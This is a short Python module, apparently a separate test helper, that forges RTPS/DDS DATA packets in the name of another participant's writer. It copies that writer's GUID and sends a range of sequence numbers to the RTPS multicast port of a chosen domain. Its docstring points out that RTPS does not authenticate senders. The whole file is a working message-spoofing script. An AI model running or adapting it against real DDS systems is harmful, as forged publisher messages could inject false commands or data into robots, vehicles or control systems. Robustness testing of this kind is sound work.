"""A forger of messages, written apart from the project: RTPS packets by hand, in the name of
another's writer.

The Real-time Publish-Subscribe protocol (OMG RTPS 2.5) has no check of the sender. Whoever knows
the GUID of a writer can send its next messages to the group of all participants.
"""

import socket
import struct

_GROUP, _PORT, _PER_DOMAIN, _USER = "239.255.0.1", 7400, 250, 1


def send(guid, first, payload, domain, count):
    """Send a payload as the next messages of a writer.

    Args:
        guid: GUID of the writer, 16 bytes.
        first: First sequence number.
        payload: Message, as CDR.
        domain: DDS domain.
        count: Number of sequence numbers.
    """
    header = b"RTPS" + bytes([2, 5, 1, 16]) + guid[:12]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as wire:
        wire.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton("127.0.0.1"))
        for number in range(first, first + count):
            body = (
                struct.pack(
                    "<HH4s4siI", 0, 16, bytes(4), guid[12:], number >> 32, number & 0xFFFFFFFF
                )
                + payload
            )
            packet = (
                header + struct.pack("<BBH", 0x15, 0x05, len(body)) + body
            )  # DATA with a payload
            wire.sendto(packet, (_GROUP, _PORT + _PER_DOMAIN * domain + _USER))
